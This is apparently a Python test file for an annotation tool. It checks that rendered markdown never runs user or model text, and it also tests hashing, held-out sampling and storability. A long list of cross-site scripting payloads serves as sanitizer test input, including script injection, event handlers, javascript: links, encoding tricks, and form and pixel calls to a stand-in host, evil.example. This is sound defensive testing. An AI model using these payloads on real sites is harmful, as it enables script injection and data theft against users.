"""What people and models wrote is shown and never runs; equal things have equal hashes."""

import math
import random
import time
from collections.abc import Callable
from html.parser import HTMLParser

import pytest

from annotation.templatetags.text import markdown
from annotation.text import (
    ATTRIBUTES,
    REACHED_BY_TAB,
    TAGS,
    canonical,
    is_heldout,
    sha256,
    storable,
    to_html,
    why_unstorable,
)


class Reader(HTMLParser):
    """Reads a page as a browser does, and notes every element, attribute, comment and declaration."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[tuple[str, str]] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add((tag, ""))
        self.found |= {(tag, name) for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data

    def note_markup(self, data: str) -> None:
        self.found.add(("markup", data))

    handle_comment = handle_decl = handle_pi = unknown_decl = note_markup


ALLOWED = {(tag, "") for tag in TAGS} | {
    (tag, name) for allowed in (ATTRIBUTES, REACHED_BY_TAB) for tag, names in allowed.items() for name in names
}


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


def not_allowed(html: str) -> set[tuple[str, str]]:
    return read(html).found - ALLOWED


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#10;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](https://example.com 'onmouseover=alert(1)')",
    '[a](<javascript:alert(1)> "title")',
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "https://evil.example",
    "![pixel](https://evil.example/seen.gif)",
    '![x](x"onerror="alert(1))',
    '![x](data:image/svg+xml,<svg onload="alert(1)">)',
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="background:url(//evil.example)" class="x" id="main">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil>",
    "<form action=//evil.example><input name=client_uuid><button>Submit</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<details open ontoggle=alert(1)>",
    "<div hx-get='/admin/' hx-trigger=load data-submit>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover=alert(1)\n\n```',
    "`<img src=x onerror=alert(1)>`",
    "> * 1. <script>alert(1)</script>\n>   > ![x](javascript:alert(1))",
    "| <script> | b |\n|:---|---:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "**[*`<svg/onload=alert(1)>`*](javascript:alert(1))**",
    "# <img src=x onerror=alert(1)>\n\n<b>x</b>\n===",
    "<b\0>x</b\0><scr\0ipt>alert(1)</scr\0ipt>",
    "\x00<script>\x00",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<script>\u2028alert(1)",
    "＜script＞alert(1)＜/script＞",
    "<%73cript>",
    "</p></div></textarea></main><script>alert(1)</script>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_is_written_can_run(text):
    for spelled in (text, f"Hello *there*\n\n{text}\n\n- and {text}", text.upper(), text * 3):
        assert not_allowed(to_html(spelled)) == set()


def test_no_mixture_of_attacks_can_run_either():
    draw = random.Random(7)
    glue = ["", "\n", "\n\n", " ", "> ", "- ", "`", "```\n", "**", "|", "[", "](", ")", "<", ">", '"', "'", "&", "\\"]
    for _ in range(600):
        text = "".join(draw.choice(ATTACKS if draw.random() < 0.4 else glue) for _ in range(12))
        assert not_allowed(to_html(text)) == set(), text


def test_the_reader_sees_what_it_should():
    assert not_allowed("<p onclick=x>a<script></script><!-- c --></p>") == {
        ("p", "onclick"),
        ("script", ""),
        ("markup", " c "),
    }


def test_markup_is_shown_as_it_was_written():
    assert read(to_html("a <b>b</b> <script>alert(1)</script> &lt;i&gt;")).text == (
        "a <b>b</b> <script>alert(1)</script> <i>\n"
    )


def test_links_keep_their_words_and_lose_their_address():
    html = to_html("See [our shop](https://shop.example/secret).")
    assert "our shop" in html
    assert "secret" not in html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>\n"),
        ("# a\n\nb\nc", "<h1>a</h1>\n<p>b<br>\nc</p>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("> a\n\n---", "<blockquote>\n<p>a</p>\n</blockquote>\n<hr>\n"),
        ("```py\nx < 1\n```", '<pre tabindex="0"><code>x &lt; 1\n</code></pre>\n'),
        ("", ""),
    ],
)
def test_markdown_is_rendered(text, html):
    assert to_html(text) == html
    assert markdown(text) == to_html(text)


def test_a_table_is_rendered():
    found = {tag for tag, _ in read(to_html("| a | b |\n|---|:-:|\n| 1 | 2 |")).found}
    assert found == {"table", "thead", "tbody", "tr", "th", "td"}


NASTY: dict[str, Callable[[int], str]] = {
    "quotes in quotes": lambda n: ">" * n + "a",
    "lists in lists": lambda n: "".join("  " * level + "- a\n" for level in range(int(n**0.5))),
    "brackets": lambda n: "[" * n,
    "closed brackets": lambda n: "[" * n + "a" + "]" * n,
    "links in links": lambda n: "[a](" * n,
    "stars": lambda n: "*a **b " * n,
    "back-ticks": lambda n: "".join("`" * (length % 200) + " " for length in range(n // 100)),
    "tags": lambda n: "<a " * n,
    "comments": lambda n: "<!-- a " * n,
    "entities": lambda n: "&amp;" * n,
    "one long line": lambda n: "a" * n * 10,
}


@pytest.mark.parametrize("make", NASTY.values(), ids=NASTY)
def test_no_text_makes_the_page_slow(make):
    started = time.process_time()
    to_html(make(5_000))
    assert time.process_time() - started < 3


# Hashes


def test_equal_values_have_one_spelling():
    assert canonical({"b": [1, None, True], "a": "é"}) == canonical({"a": "é", "b": [1, None, True]})
    assert canonical({"b": [1, None, True], "a": "é"}) == '{"a":"é","b":[1,null,true]}'
    assert canonical({"a": 1}) != canonical({"a": "1"})
    assert canonical([1, 2]) != canonical([2, 1])


@pytest.mark.parametrize("value", [math.nan, [math.inf], {"a": -math.inf}])
def test_what_has_no_spelling_is_refused(value):
    with pytest.raises(ValueError, match="Out of range float"):
        canonical(value)


@pytest.mark.parametrize(
    ("value", "digest"),
    [
        ("", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
        ("Zoë", "c6a12698582fc1104ea24107a2d7268145ff06ef859707729d01fd060897f067"),
        ([{"role": "user", "content": "Hi"}], "557f6d9586f57ae72d24a7d34f47ed219efecbc197894dfead83851aaa02e87f"),
    ],
)
def test_hashes_stay_what_they_are(value, digest):
    """Prompts and answers are known by these for ever: a change here makes every import add everything again."""
    assert sha256(value) == digest


def test_a_text_and_a_list_of_it_differ():
    assert sha256("a") != sha256(["a"]) != sha256({"a": None})


def test_half_a_surrogate_pair_has_a_hash_of_its_own():
    assert len({sha256(text) for text in ("\ud83d", "\ude00", "?", "😀")}) == 4


# Held out


@pytest.mark.parametrize("share", [0.05, 0.2, 0.5, 0.9])
def test_about_the_share_that_was_asked_for_is_held_out(share):
    held = sum(is_heldout(sha256(f"question {number}"), share) for number in range(4000))
    assert abs(held / 4000 - share) < 5 * (share * (1 - share) / 4000) ** 0.5


def test_all_or_nothing_can_be_held_out():
    digests = ["0" * 64, "f" * 64, *(sha256(str(number)) for number in range(100))]
    assert not any(is_heldout(digest, 0) for digest in digests)
    assert all(is_heldout(digest, 1) for digest in digests)


def test_a_larger_share_holds_out_what_a_smaller_one_did():
    for number in range(500):
        digest = sha256(str(number))
        assert is_heldout(digest, 0.5) >= is_heldout(digest, 0.2)


# What can be stored


def nested(levels: int) -> list:
    value: list = []
    for _ in range(levels - 1):
        value = [value]
    return value


STORABLE = {
    "nothing": "",
    "odd characters": "😀\x01\x7f\uffff",
    "all kinds": {"a": [1, 1.5, None, True, {"b": ()}]},
    "a great number": 10**30,
    "many levels": nested(100),
}


@pytest.mark.parametrize("value", STORABLE.values(), ids=STORABLE)
def test_what_can_be_stored_has_no_reason_against_it(value):
    assert why_unstorable(value) == ""


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("\0", "NUL"),
        ("a\ud800", "surrogate"),
        ("\udfff", "surrogate"),
        ({"\0": 1}, "NUL"),
        ({"a": [{"b": ["c", "\0"]}]}, "NUL"),
        ([1.0, float("nan")], "not finite"),
        (-math.inf, "not finite"),
        (nested(101), "nested more than 100 levels deep"),
        (nested(20_000), "nested more than 100 levels deep"),
    ],
    ids=["NUL", "high", "low", "key", "deep", "nan", "inf", "levels", "many levels"],
)
def test_what_cannot_be_stored_has_a_reason(value, reason):
    assert reason in why_unstorable(value)


def test_storable_replaces_what_cannot_be_stored_and_nothing_else():
    assert storable("a\0b\ud800c\udfff 😀\n") == "a�b�c� 😀\n"
